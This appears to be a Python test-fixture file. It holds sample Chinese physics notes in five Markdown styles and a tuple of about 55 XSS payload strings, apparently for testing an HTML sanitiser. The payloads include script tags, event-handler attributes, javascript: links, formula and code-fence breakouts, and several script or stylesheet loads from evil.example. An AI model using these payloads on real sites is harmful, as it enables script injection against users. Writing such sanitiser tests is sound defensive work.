"""Notes of our own in the five ways people write them, and bytes that try to do harm."""

from __future__ import annotations

BULLETS = """# 物理要点
## 介绍一下自由落体
  - 真空里（In a vacuum）
    - 方法: 轻重同时落地。
    - 原因: 加速度与质量无关。
  - 空气里（In air）
    - 现象: 羽毛落得慢。
      - 因为：
        - 阻力与速度有关。

##  摩擦力：
  - 接触面越粗糙越大
    - 原因：
    -挤压。
![img.png](images/friction.png)

- 补充
![img.png](images/more.png)
"""

BOLD_BULLETS = r"""# 声学基础

- **声音如何传播？**

    靠介质里的疏密变化。

    - 固体：快。
    - 气体：慢。
        1. 温度越高越快。
        2. 与压强无关。
- **推导波速**

    设频率为$*f*$，波长为*λ*，则$*v = fλ*$。

    $v(x)=\begin{cases} 1 & (x>0) \ 0 & (x\leq0) \end{cases}$

- **真空能传声吗？**
    - 不能。
    - 没有介质。""".replace("\n\n", "\n    \n")

NUMBERED = r"""# 基础问题

## 1. 如何测量重力加速度

用单摆：
$$
g = \frac{4\pi^2 l}{T^2}
$$

### 1.1 误差从哪里来

摆角$\theta$太大。
![](../pics/pendulum.png)

## 2. 什么是共振？

> 频率相同，振幅变大。

## 3. 驻波



# 光学问题
"""

EQUATIONS = """### 1. 波动方程的区别，行波和驻波

#### 统一的写法

> 首先定义：位移 ![[公式]](https://www.example.org/equation?tex=u%28x%2Ct%29) ，波速 ![[公式]](https://www.example.org/equation?tex=c)。
>
> 1. 行波： ![[公式]](https://www.example.org/equation?tex=u+%3D+f%28x-ct%29)

![img](https://pics.example.org/wave_b.jpg)

#### 现象

> ## 1 拍频
>
> - 原因：频率相近。
>
> ## 2 混响
>
> - 原因：反射。

多普勒效应和什么有关？

**红移 中 红 代表什么，如何理解？**

波长变长。
"""

TOC = r"""[TOC]



## 器材

### 显微镜

https://example.org/microscope

<img src="https://pics.example.org/scope.jpg" alt="截屏 01" style="zoom:50%;" />

**放大倍数是怎么算的？**

输入是“\<obj>”和“\<eye>”，只考虑<u>两者之积</u>。

### ⚠️望远镜





### 总结

$\alpha$通常取0.01

#### 物镜



## 暂未归类
"""

DIALECTS = {
    "bullets": BULLETS,
    "bold_bullets": BOLD_BULLETS,
    "numbered": NUMBERED,
    "equations": EQUATIONS,
    "toc": TOC,
}

HOSTILE = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<img src='x' alt='\"><script>alert(1)</script>'>",
    '<img alt="<svg onload=alert(1)>" src="https://a.example/b.png">',
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://a.example' onclick=alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<u onmouseover=alert(1)>x</u>",
    "<sub style='position:fixed'>x</sub>",
    "<br onclick=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/x)",
    "[x](https://a.example 'a\" onclick=alert(1) b=\"')",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](https://a.example/x.png)',
    "![x](https://a.example/x.png 'y\" onerror=\"alert(1)')",
    "<javascript:alert(1)>",
    '<https://a.example/"onclick=alert(1)>',
    r"$\text{<script>alert(1)</script>}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{position:fixed}{x}$",
    "![[公式]](https://a.example/equation?tex=%5Ctext%7B%3Cscript%3Ealert(1)%3C/script%3E%7D)",
    "![[公式]](https://a.example/equation?tex=%5Chref%7Bjavascript:alert(1)%7D%7Bx%7D)",
    "```<script>alert(1)</script>\nx\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "- **<img src=x onerror=alert(1)>？**\n    - x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "\u202e<script>alert(1)</script>",
)
